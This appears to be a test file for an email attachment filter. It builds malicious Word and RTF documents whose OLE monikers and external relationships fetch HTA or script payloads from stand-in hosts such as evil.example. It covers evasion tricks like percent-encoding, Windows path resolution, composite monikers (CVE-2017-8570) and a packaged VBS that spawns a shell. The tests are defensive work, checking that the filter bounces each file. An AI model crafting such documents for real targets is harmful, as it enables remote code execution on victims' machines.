import { compoundFile, packagedFile, rtfWithObject, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import {
  compositeMoniker,
  fileMoniker,
  MONIKER_CLASSES,
  oleLinkStream,
  u32,
  urlMoniker,
} from './ole-link-builders.js';
import { useLocalStack } from './stack.js';

// Attacker round 49: documents that link to a file outside them, which Word fetches and opens as they open.
const stack = useLocalStack();
const kit = attackerKit(stack);
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const vbs = Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n');
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;
const body = '<w:document><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>';
const docxWith = (embedded: Buffer) =>
  zipFile([
    { name: 'word/document.xml', data: body },
    { name: 'word/embeddings/oleObject1.bin', data: embedded },
  ]);
const linkedRtf = (stream: Buffer) =>
  Buffer.from(
    rtfWithObject('OLE2Link', compoundFile([['\u0001Ole', stream]])).replace(
      '\\object\\objemb',
      '\\object\\objautlink\\objupdate',
    ),
  );
const absolute = (moniker: Buffer) => oleLinkStream(Buffer.alloc(0), Buffer.alloc(0), moniker);
const relsBytes = (relationship: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
const docxRels = (rels: string | Buffer) =>
  zipFile([
    { name: 'word/document.xml', data: body },
    { name: 'word/_rels/document.xml.rels', data: typeof rels === 'string' ? relsBytes(rels) : rels },
  ]);
const external = (type: string, target: string, extra = '') =>
  `<Relationship Id="rId9"${extra} Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;

// A49-1 (high): a link to an address on a server opens what the server answers: served as application/hta, an
// address without an extension (or ending .docx) runs an HTA. The guard judged the link by its last segment.
describe('A49-1: links to an address on a server', () => {
  it('bounces a .docx object linking by a URL moniker to an address without an extension', async () => {
    const ole = compoundFile([['\u0001Ole', absolute(urlMoniker('http://evil.example/invoice'))]]);
    expect(await verdict('Invoice.docx', docxWith(ole), DOCX)).toBe('BOUNCE');
  });
  it('bounces an .rtf object linking to an address ending .docx', async () => {
    expect(await verdict('Invoice.rtf', linkedRtf(absolute(urlMoniker('https://evil.example/a.docx'))))).toBe(
      'BOUNCE',
    );
  });
  it('bounces a .docx whose relationships link an OLE object and a template on a server', async () => {
    expect(
      await verdict('Invoice.docx', docxRels(external('oleObject', 'http://evil.example/report')), DOCX),
    ).toBe('BOUNCE');
    expect(
      await verdict(
        'Invoice.docx',
        docxRels(external('attachedTemplate', 'https://evil.example/t.dotx')),
        DOCX,
      ),
    ).toBe('BOUNCE');
  });
  it('bounces an .rtf OLE 1 object linked to an address', async () => {
    const lp = (t: string) => Buffer.concat([u32(t.length + 1), Buffer.from(`${t}\0`, 'latin1')]);
    const object = Buffer.concat([
      u32(0x0501),
      u32(1),
      lp('Package'),
      lp('http://evil.example/payload'),
      lp(''),
      lp(''),
      u32(0),
      u32(1),
    ]);
    const rtf = `{\\rtf1\\ansi x\\par{\\object\\objlink\\objupdate{\\*\\objdata ${object.toString('hex')}}}}`;
    expect(await verdict('Invoice.rtf', Buffer.from(rtf))).toBe('BOUNCE');
  });
  it('(control) sends a .docx with a remote picture and a hyperlink', async () => {
    const rels =
      external('image', 'https://cdn.example/logo.png') + external('hyperlink', 'https://vendor.example/x');
    expect(await verdict('Invoice.docx', docxRels(rels), DOCX)).toBe('DEFAULT');
  });
});

// A49-2: XML allows `>` in an attribute value; the relationship scan stopped at it and lost the target after it.
describe('A49-2: a > inside a relationship attribute', () => {
  it('bounces a .docx linking a script on a share after an Id holding >', async () => {
    const rels = external('oleObject', '\\\\evil.example\\s\\invoice.hta', '').replace(
      'Id="rId9"',
      'Id="r>9"',
    );
    expect(await verdict('Invoice.docx', docxRels(rels), DOCX)).toBe('BOUNCE');
  });
});

// A49-3: XML in UTF-16 big-endian without a byte order mark (XML 1.0 appendix F: `00 3C`).
describe('A49-3: relationships in UTF-16BE without a byte order mark', () => {
  it('bounces a .docx whose relationships link a script on a share', async () => {
    const text = relsBytes(external('oleObject', '\\\\evil.example\\s\\invoice.hta'));
    const utf16be = Buffer.from(text, 'utf16le').swap16();
    expect(await verdict('Invoice.docx', docxRels(utf16be), DOCX)).toBe('BOUNCE');
  });
});

// A49-6: a file: URL's name is percent-decoded before Windows opens it.
describe('A49-6: percent-encoded link names', () => {
  it('bounces a relationship and a URL moniker naming invoice%2Ehta', async () => {
    expect(
      await verdict('Invoice.docx', docxRels(external('oleObject', 'file:///C:/x/invoice%2Ehta')), DOCX),
    ).toBe('BOUNCE');
    const ole = compoundFile([['\u0001Ole', absolute(urlMoniker('file://evil.example/s/invoice.h%74a'))]]);
    expect(await verdict('Invoice.docx', docxWith(ole), DOCX)).toBe('BOUNCE');
  });
});

// A49-7/8: Windows resolves a path before opening it: `invoice.hta\.` and `invoice.hta\x\..` are invoice.hta.
describe('A49-7/8: paths Windows resolves to a script', () => {
  it('bounces file monikers naming invoice.hta\\. and invoice.hta\\x\\..', async () => {
    for (const path of ['\\\\evil.example\\s\\invoice.hta\\.', '\\\\evil.example\\s\\invoice.hta\\x\\..']) {
      const ole = compoundFile([['\u0001Ole', absolute(fileMoniker(path, path))]]);
      expect(await verdict('Invoice.docx', docxWith(ole), DOCX)).toBe('BOUNCE');
    }
  });
  it('bounces a relationship naming invoice.hta\\x\\..', async () => {
    const rels = external('oleObject', '\\\\evil.example\\s\\invoice.hta\\x\\..');
    expect(await verdict('Invoice.docx', docxRels(rels), DOCX)).toBe('BOUNCE');
  });
  it('bounces a package whose temporary path is invoice.vbs\\.', async () => {
    const rtf = rtfWithObject('Package', packagedFile('invoice.vbs\\.', vbs, 'Invoice.pdf'));
    expect(await verdict('Invoice.rtf', Buffer.from(rtf))).toBe('BOUNCE');
  });
});

// A49-12 (high): a composite moniker whose members Word binds in turn: a file moniker, then a "new" or script
// moniker that runs what it names (CVE-2017-8570). Only the top monikers' classes were checked.
describe('A49-12: a composite moniker with a member not read', () => {
  const pdf = fileMoniker('C:\\x\\report.pdf', 'C:\\x\\report.pdf');
  it('bounces a file moniker followed by a "new" moniker', async () => {
    const composite = compositeMoniker(pdf, Buffer.concat([MONIKER_CLASSES.new, u32(0)]));
    expect(await verdict('Invoice.rtf', linkedRtf(absolute(composite)))).toBe('BOUNCE');
  });
  it('bounces a composite ending in a script moniker, inside another composite', async () => {
    const inner = compositeMoniker(Buffer.concat([MONIKER_CLASSES.script, u32(0)]));
    const ole = compoundFile([['\u0001Ole', absolute(compositeMoniker(pdf, inner))]]);
    expect(await verdict('Invoice.docx', docxWith(ole), DOCX)).toBe('BOUNCE');
  });
  it('bounces a link whose monikers do not frame as its sizes say', async () => {
    const stream = oleLinkStream(Buffer.alloc(0), Buffer.alloc(0), pdf);
    const cut = Buffer.concat([stream.subarray(0, 24), u32(9999), stream.subarray(28)]);
    expect(await verdict('Invoice.rtf', linkedRtf(cut))).toBe('BOUNCE');
  });
  // On the local drive: a workbook on a share is refused since round 118 (Windows signs in to the share as the user).
  it('(control) sends a link to a range of a workbook on the local drive (file and item monikers)', async () => {
    const text = (t: string) => Buffer.concat([u32(t.length + 1), Buffer.from(`${t}\0`, 'latin1')]);
    const item = Buffer.concat([MONIKER_CLASSES.item, text('!'), text('Sheet1!R1C1')]);
    const book = fileMoniker('C:\\Reports\\q3\\book.xlsx', 'C:\\Reports\\q3\\book.xlsx');
    expect(await verdict('Figures.rtf', linkedRtf(absolute(compositeMoniker(book, item))))).toBe('DEFAULT');
  });
});
